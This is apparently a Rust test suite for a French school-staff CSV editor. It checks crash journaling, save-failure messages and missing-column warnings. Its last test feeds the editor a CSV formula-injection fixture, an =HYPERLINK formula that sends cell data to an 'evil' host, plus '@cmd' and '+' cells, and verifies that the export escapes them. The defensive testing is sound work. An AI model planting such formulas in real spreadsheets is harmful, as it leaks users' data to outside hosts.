//! The window loses no work and hides no failure: unsaved edits are journaled and offered back
//! at the next start, a failed save says that it failed to save, a list without the columns
//! the checks need says what cannot be checked. Driven through AccessKit labels.
#![allow(clippy::unwrap_used, clippy::expect_used)] // Test helpers panic on purpose.

mod common;

use common::wait_for_loading;

use std::path::{Path, PathBuf};

use egui_kittest::Harness;
use egui_kittest::kittest::Queryable;
use pronote_companion::app::{App, Command, Dialog, Document, JournalStore};
use pronote_companion::review::open::OpenRequest;

/// A copy of the example's Professeurs list in `dir`.
fn professeurs_copy(dir: &Path) -> PathBuf {
    let path = dir.join("professeurs.csv");
    std::fs::copy(common::exemple("professeurs.csv"), &path).unwrap();
    path
}

fn harness_with(app: App) -> Harness<'static, App> {
    let mut harness = Harness::builder()
        .with_size(egui::vec2(1400.0, 800.0))
        .build_eframe(|_| app);
    harness.run();
    harness
}

fn dejean(app: &App) -> usize {
    let table = &app.doc.tables[0];
    (0..table.rows.len())
        .find(|&r| table.nom(r) == "DEJEAN")
        .unwrap()
}

/// Clears DEJEAN's CAS through the app's own command path, as the fiche or grid would.
fn clear_dejean_cas(harness: &mut Harness<'_, App>) {
    let row = dejean(harness.state());
    let column = harness.state().doc.tables[0]
        .columns
        .iter()
        .position(|c| c.title == "Identifiant CAS")
        .unwrap();
    let ctx = harness.ctx.clone();
    harness.state_mut().apply(
        &ctx,
        Command::SetCell {
            table: 0,
            row,
            column,
            value: String::new(),
        },
    );
    // The journal is written at the end of a frame that carried out commands.
    harness.state_mut().apply(&ctx, Command::CloseDialog);
    harness.run();
}

fn app_on(list: &Path, config: &Path) -> App {
    let mut app = App::with_document(Document::default());
    app.set_journal_store(JournalStore::at(config));
    app.load_now(&[OpenRequest::Auto(list.to_owned())]);
    app
}

#[test]
fn unsaved_edits_survive_a_crash_and_are_offered_back_at_the_next_start() {
    let files = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let list = professeurs_copy(files.path());
    let store = JournalStore::at(config.path());

    let mut harness = harness_with(app_on(&list, config.path()));
    clear_dejean_cas(&mut harness);
    harness.key_press(egui::Key::Escape);
    harness.run();
    assert!(store.path().exists(), "the edit is journaled");
    let journal = std::fs::read_to_string(store.path()).unwrap();
    assert!(journal.contains("michelle.moreau"), "the edited cell only");
    assert!(!journal.contains("x7Qp"), "no password, no other cell");
    // The window dies without saving (a panic, a power cut): nothing runs after this.
    drop(harness);

    let mut app = App::with_document(Document::default());
    app.set_journal_store(JournalStore::at(config.path()));
    let mut harness = harness_with(app);
    harness.get_by_label("Modifications non enregistrées retrouvées");
    assert!(
        harness
            .get_all_by_label_contains("professeurs.csv (1 cellule(s))")
            .count()
            >= 1
    );
    harness.get_by_label("Restaurer").click();
    harness.step();
    wait_for_loading(&mut harness);
    let app = harness.state();
    assert_eq!(app.doc.tables.len(), 1);
    assert_eq!(
        app.doc.tables[0].cas_id(dejean(app)),
        "",
        "the edit is back"
    );
    assert!(app.doc.unsaved > 0, "and still unsaved");
    harness.get_by_label("1 modification(s) non enregistrée(s) restaurée(s).");
}

#[test]
fn discarding_the_journal_deletes_it_and_a_save_deletes_it_too() {
    let files = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let list = professeurs_copy(files.path());
    let store = JournalStore::at(config.path());

    let mut harness = harness_with(app_on(&list, config.path()));
    clear_dejean_cas(&mut harness);
    assert!(store.path().exists());
    drop(harness);
    let mut app = App::with_document(Document::default());
    app.set_journal_store(JournalStore::at(config.path()));
    let mut harness = harness_with(app);
    harness.get_by_label("Abandonner").click();
    harness.run();
    assert!(!store.path().exists(), "discarded");

    let mut harness = harness_with(app_on(&list, config.path()));
    clear_dejean_cas(&mut harness);
    assert!(store.path().exists());
    let out = tempfile::tempdir().unwrap();
    let ctx = harness.ctx.clone();
    harness
        .state_mut()
        .apply(&ctx, Command::Export(out.path().to_owned()));
    harness.state_mut().wait_for_save();
    harness.run();
    assert!(!store.path().exists(), "saved: the journal is gone");
}

#[test]
fn a_failed_save_says_it_failed_to_save_and_names_the_file() {
    let files = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let list = professeurs_copy(files.path());
    let mut harness = harness_with(app_on(&list, config.path()));
    clear_dejean_cas(&mut harness);
    let out = tempfile::tempdir().unwrap();
    // A folder where the corrected list goes: the save cannot write it.
    let blocked = out.path().join("professeurs-corrige.csv");
    std::fs::create_dir(&blocked).unwrap();
    let ctx = harness.ctx.clone();
    harness
        .state_mut()
        .apply(&ctx, Command::Export(out.path().to_owned()));
    harness.state_mut().wait_for_save();
    harness.run();
    assert!(matches!(
        harness.state().dialog,
        Some(Dialog::SaveFailed(_))
    ));
    harness.get_by_label("Enregistrement impossible");
    assert!(harness.query_by_label("Fichier non chargé").is_none());
    assert!(
        harness
            .get_all_by_label_contains(&blocked.display().to_string())
            .count()
            >= 1
    );
    assert!(harness.state().doc.unsaved > 0, "the edit is still unsaved");
    let written: Vec<_> = std::fs::read_dir(out.path()).unwrap().collect();
    assert_eq!(written.len(), 1, "nothing written beside the folder");
}

#[test]
fn a_list_without_identifiant_cas_says_in_the_window_what_cannot_be_checked() {
    let files = tempfile::tempdir().unwrap();
    let list = files.path().join("professeurs.csv");
    std::fs::write(
        &list,
        "Nom;Prénom;Adresse E-mail\nDUPONT;Léa;lea@ecole.fr\n",
    )
    .unwrap();
    let mut app = App::with_document(Document::default());
    app.load_now(&[OpenRequest::Auto(list)]);
    let harness = harness_with(app);
    assert!(
        harness
            .get_all_by_label_contains("Colonne « Identifiant CAS » absente")
            .count()
            >= 1
    );
    assert!(harness.state().notice.as_ref().is_some_and(|n| n.is_error));
}

#[test]
fn the_work_list_saved_from_the_window_cannot_run_a_formula() {
    let files = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let list = files.path().join("professeurs.csv");
    std::fs::write(
        &list,
        "Nom;Prénom;Identifiant CAS\n=HYPERLINK(\"http://evil/\"&A1,\"x\");+Léa;@cmd\n",
    )
    .unwrap();
    let mut harness = harness_with(app_on(&list, config.path()));
    let ctx = harness.ctx.clone();
    harness.state_mut().apply(
        &ctx,
        Command::SetCell {
            table: 0,
            row: 0,
            column: 2,
            value: "-2+3".to_owned(),
        },
    );
    let out = tempfile::tempdir().unwrap();
    harness
        .state_mut()
        .apply(&ctx, Command::Export(out.path().to_owned()));
    harness.state_mut().wait_for_save();
    harness.run();
    let bytes = std::fs::read(out.path().join("a-faire-dans-pronote.csv")).unwrap();
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(text.contains("'+Léa"), "{text}");
    assert!(text.contains("'@cmd"), "{text}");
    assert!(text.contains("'-2+3"), "{text}");
}
